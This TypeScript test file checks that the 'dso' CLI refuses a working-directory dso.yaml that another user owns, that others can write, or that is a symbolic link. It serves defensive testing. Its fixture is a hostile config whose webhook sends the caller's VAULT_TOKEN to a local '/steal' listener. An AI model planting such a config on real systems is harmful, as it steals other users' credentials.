/**
 * Finding 7 of issue 18: `./dso.yaml` is read from the working directory only when nobody but the
 * caller or root can have put it there. Root running `dso notifications test` in another user's
 * directory must not send `${VAULT_TOKEN}` to that user's listener. With the compiled binary; as
 * root (the test runner is root), the other user is uid 4243.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { chmodSync, chownSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { findConfigPath } from "../../src/config/index.ts";
import { runDso } from "../support/dso-binary.ts";

const OTHER_UID = 4243;
const PLANTED_TOKEN = "planted-vault-token-7Qx9";
let dir: string;
let listener: ReturnType<typeof Bun.serve>;
const received: string[] = [];

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "dso-config-trust-"));
  chmodSync(dir, 0o755);
  listener = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    async fetch(req) {
      received.push(`${req.headers.get("authorization")} ${await req.text()}`);
      return new Response("", { status: 204 });
    },
  });
});
afterAll(() => {
  listener.stop(true);
  rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => void (received.length = 0));

/** A dso.yaml that sends the caller's VAULT_TOKEN to the listener. */
const hostileConfig = () =>
  ["notifications:", "  enabled: true", "  webhooks:", `    - url: http://127.0.0.1:${listener.port}/steal`, "      headers:", "        Authorization: Bearer ${VAULT_TOKEN}", ""].join("\n");

function project(name: string, options: { dirUid?: number; fileUid?: number; fileMode?: number; dirMode?: number }): string {
  const cwd = join(dir, name);
  mkdirSync(cwd);
  writeFileSync(join(cwd, "dso.yaml"), hostileConfig());
  chownSync(join(cwd, "dso.yaml"), options.fileUid ?? 0, options.fileUid ?? 0);
  chmodSync(join(cwd, "dso.yaml"), options.fileMode ?? 0o644);
  chownSync(cwd, options.dirUid ?? 0, options.dirUid ?? 0);
  chmodSync(cwd, options.dirMode ?? 0o755);
  return cwd;
}

const notificationsTest = (cwd: string) =>
  runDso(["notifications", "test", "--json"], { cwd, env: { PATH: process.env.PATH, VAULT_TOKEN: PLANTED_TOKEN, DSO_CONFIG: undefined } });

describe("./dso.yaml is trusted only when the caller or root owns it and nobody else can change it", () => {
  test("root in another user's directory, on that user's dso.yaml: not used, a warning names the file and why", async () => {
    const cwd = project("user-owned", { dirUid: OTHER_UID, fileUid: OTHER_UID });
    const run = await notificationsTest(cwd);
    console.log(`user-owned ./dso.yaml: exit ${run.code}; stderr: ${run.stderr.trim()}`);
    expect(received).toEqual([]);
    expect(run.stderr).toContain(join(cwd, "dso.yaml"));
    expect(run.stderr).toMatch(/owned by uid 4243/);
    expect(run.stdout).not.toContain(PLANTED_TOKEN);
  });

  test("a root-owned file that others may write (0666): not used", async () => {
    const cwd = project("world-writable", { fileMode: 0o666 });
    const run = await notificationsTest(cwd);
    expect(received).toEqual([]);
    expect(run.stderr).toMatch(/writable by others/);
  });

  test("a root-owned 0644 file in a directory another user owns (it could be swapped): not used", async () => {
    const cwd = project("root-file-user-dir", { dirUid: OTHER_UID });
    const run = await notificationsTest(cwd);
    expect(received).toEqual([]);
    expect(run.stderr).toMatch(/directory .* owned by uid 4243/);
  });

  test("positive control: a root-owned 0644 ./dso.yaml in a root-owned directory is used", async () => {
    const cwd = project("root-owned", {});
    const run = await notificationsTest(cwd);
    expect(run.code).toBe(0);
    expect(received).toHaveLength(1);
    expect(received[0]).toContain(PLANTED_TOKEN);
    expect(run.stderr).not.toContain("ignor");
  });
});

describe("findConfigPath on ./dso.yaml", () => {
  test("the caller's own or root's file is found; another user's, a 0666 one or a symbolic link is skipped with the reason", () => {
    const seen: string[] = [];
    const find = (cwd: string) => findConfigPath({ env: {}, systemPath: join(dir, "absent.yaml"), cwd, onSkipped: (why) => seen.push(why) });
    const ok = project("unit-ok", {});
    expect(find(ok)).toBe(join(ok, "dso.yaml"));
    expect(find(project("unit-user", { fileUid: OTHER_UID }))).toBeNull();
    expect(find(project("unit-0666", { fileMode: 0o664 }))).toBeNull();
    const linked = join(dir, "unit-link");
    mkdirSync(linked);
    symlinkSync(join(ok, "dso.yaml"), join(linked, "dso.yaml"));
    expect(find(linked)).toBeNull();
    const sticky = project("unit-sticky", { dirMode: 0o1777 });
    expect(find(sticky)).toBe(join(sticky, "dso.yaml"));
    expect(seen).toHaveLength(3);
    expect(seen[0]).toMatch(/ignoring .*unit-user\/dso\.yaml: owned by uid 4243/);
    expect(seen[1]).toMatch(/writable by others/);
    expect(seen[2]).toMatch(/symbolic link/);
    for (const line of seen) expect(line).toContain("--config");
  });
});
